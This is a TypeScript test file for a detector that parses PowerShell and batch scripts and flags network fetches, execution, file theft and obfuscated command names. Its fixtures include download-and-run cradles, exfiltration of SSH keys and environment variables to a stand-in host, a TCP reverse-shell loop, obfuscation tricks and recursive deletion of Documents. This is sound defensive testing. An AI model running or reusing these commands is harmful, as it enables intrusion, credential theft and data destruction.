import { expect, test } from '@jest/globals';
import type { Fact, Reading, Source } from '../../facts.js';
import { scriptUnit } from '../../testing/facts.js';
import { readBatch } from './batch.js';
import { readPowerShell } from './powershell.js';

const read = (text: string): Reading =>
  readPowerShell(scriptUnit({ file: 'setup.ps1', language: 'powershell', text })) as Reading;

const named = (source: Source): string => {
  if (source.kind === 'network') return source.url.text;
  if (source.kind === 'file') return source.path.text;
  return 'name' in source ? source.name : 'encoding' in source ? source.encoding : source.kind;
};
const sources = (list: readonly Source[]): string =>
  list.length === 0 ? '' : ` < ${list.map(named).join(', ')}`;

const line = (fact: Fact): string => {
  switch (fact.kind) {
    case 'request':
      return `request ${fact.url.text}${sources(fact.sends)}${fact.credentials.length > 0 ? ` as ${fact.credentials.map(named).join(', ')}` : ''}${fact.saves ? ` > ${fact.saves.text}` : ''}`;
    case 'execute':
      return `execute ${fact.program}${sources(fact.sources)}${fact.disguised ? ' disguised' : ''}`;
    case 'write':
      return `write ${fact.path.text}${sources(fact.sources)}`;
    case 'delete':
    case 'read':
      return `${fact.kind} ${fact.path.text}`;
    case 'environment':
      return `environment ${fact.name}`;
    default:
      return fact.kind;
  }
};

const factsOf = (text: string): string[] =>
  read(text)
    .facts.filter(({ kind }) => kind !== 'run')
    .map(line);

const url = 'https://a.example/i';

test.each<[string, string, string[]]>([
  [
    'a web client',
    `iex (New-Object Net.WebClient).DownloadString('${url}')`,
    [`request ${url}`, `execute Invoke-Expression < ${url}`],
  ],
  [
    'a pipe',
    `$u = "${url}"\nirm $u | iex`,
    [`request ${url}`, `execute Invoke-Expression < ${url}`],
  ],
  [
    'a script block',
    `& ([scriptblock]::Create((iwr -useb ${url}))) -Quiet`,
    [`request ${url}`, `execute scriptblock::Create < ${url}`],
  ],
  [
    'a file',
    `Invoke-WebRequest -Uri ${url} -OutFile "$env:TEMP/x.exe"; Start-Process "$env:TEMP/x.exe"`,
    [`request ${url} > \${env:temp}/x.exe`, `execute Start-Process < ${url}`],
  ],
  ['a program of its own', `curl.exe -fsSL ${url} | sh`, [`request ${url}`, `execute sh < ${url}`]],
])('what is fetched by %s and run', (_name, text, expected) => {
  expect(factsOf(text)).toEqual(expected);
});

test.each<[string, string, string]>([
  [
    'a file',
    `$k = Get-Content ~/.ssh/id_rsa -Raw\nirm -Method Post -Uri ${url} -Body $k`,
    `request ${url} < ~/.ssh/id_rsa`,
  ],
  [
    'all variables',
    `gci env: | Out-String | % { irm "${url}?d=$_" }`,
    `request ${url}?d=\${environment} < *`,
  ],
  [
    'a token in a header',
    `irm ${url} -Headers @{ Authorization = "Bearer $env:KEY" }`,
    `request ${url} as KEY`,
  ],
  ['nothing', `irm ${url} | ConvertTo-Json`, `request ${url}`],
])('a request with %s', (_name, text, expected) => {
  expect(factsOf(text)).toContain(expected);
});

test.each<[string, string]>([
  ['joined letters', "& ('i'+'ex') 'whoami'"],
  ['backticks', "i`e`x 'whoami'"],
  ['letters of other texts', "& ($ShellId[1]+$ShellId[13]+'x') 'whoami'"],
  ['numbers', "& (-join [char[]](105,101,120)) 'whoami'"],
  ['a format', "& ('{1}{0}' -f 'ex','i') 'whoami'"],
])('a name written with %s', (_name, text) => {
  expect(factsOf(text)).toEqual(['execute iex disguised', 'execute Invoke-Expression']);
});

test.each<[string, string]>([
  [
    'an encoded command',
    `powershell -NoP -w hidden -enc ${Buffer.from('whoami', 'utf16le').toString('base64')}`,
  ],
  ['base64', "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))"],
])('%s is read', (_name, text) => {
  expect(read(text).units).toMatchObject([
    { language: 'powershell', text: 'whoami', decoded: ['base64'] },
  ]);
});

test.each<[string, string, string[]]>([
  [
    'a connection whose text is run',
    "$c = New-Object Net.Sockets.TCPClient('192.0.2.1',443)\n$s = $c.GetStream()\nwhile (($i = $s.Read($b, 0, 9)) -ne 0) { iex $b }",
    ['request tcp://192.0.2.1:443', 'execute Invoke-Expression < tcp://192.0.2.1:443'],
  ],
  [
    'deleting',
    'if (Test-Path x) { Remove-Item -Recurse -Force "$env:USERPROFILE\\Documents" }',
    ['delete ~/Documents'],
  ],
  [
    'writing',
    "@'\nmulti\n'@ | Out-File a.txt\n[IO.File]::WriteAllText('b.txt', 'x')",
    ['write a.txt', 'write b.txt'],
  ],
  [
    'plain work',
    '# a comment\nfunction Get-It { param([string]$Name) "$Name" }\n$x = @{ a = 1; b = "2" }\nGet-It -Name $x.a',
    [],
  ],
])('%s', (_name, text, expected) => {
  expect(factsOf(text)).toEqual(expected);
});

const batch = (text: string): string[] =>
  (readBatch(scriptUnit({ file: 'a.bat', language: 'batch', text })) as Reading).facts
    .filter(({ kind }) => kind !== 'run')
    .map(line);

test.each<[string, string, string[]]>([
  [
    'certutil',
    `certutil -urlcache -f ${url} %TEMP%\\x.exe & %TEMP%\\x.exe`,
    [`request ${url} > \${temp}\\x.exe`, `execute x < ${url}`],
  ],
  ['mshta', `mshta ${url}`, [`request ${url}`, `execute mshta < ${url}`]],
  [
    'parts of a name',
    `set a=cu\nset b=rl\n%a%%b% ${url}`,
    ['execute curl disguised', `request ${url}`],
  ],
  ['carets', `c^ur^l ${url}`, ['execute curl disguised', `request ${url}`]],
  ['slices', `set a=xcurlx\n%a:~1,4% ${url}`, ['execute curl disguised', `request ${url}`]],
  [
    'a file that is sent',
    `type "%USERPROFILE%\\.ssh\\id_rsa" | curl -d @- ${url}`,
    ['read ~/.ssh/id_rsa', `request ${url} < ~/.ssh/id_rsa`],
  ],
  ['deleting', 'if exist dist rd /s /q dist', ['delete dist']],
  ['plain work', '@echo off\nrem curl x\nset NAME=x\ncd /d "%~dp0"\ncall npm install', []],
])('a batch file with %s', (_name, text, expected) => {
  expect(batch(text)).toEqual(expected);
});

test('reading never throws', () => {
  const pieces = [
    '$(',
    ')',
    '"',
    "'",
    '@"\n',
    '"@',
    '\n',
    '|',
    '&',
    '${x',
    '}',
    '{',
    'if',
    '[',
    ']',
    'iex',
    '-f',
    ' ',
    '::',
    '.Invoke(',
    ';',
    '`',
    '=',
    '$x',
    '>',
    '-join',
    '+',
    ',',
    '..',
    '<#',
    '#',
    '\0',
    'é',
    '9',
  ];
  let seed = 1;
  const next = (): number => (seed = (seed * 48_271) % 2_147_483_647);
  for (let round = 0; round < 2000; round++) {
    const text = Array.from(
      { length: (next() % 24) + 1 },
      () => pieces[next() % pieces.length],
    ).join('');
    expect(() => read(text)).not.toThrow();
  }
  for (const piece of pieces) expect(() => read(piece.repeat(5000))).not.toThrow();
});
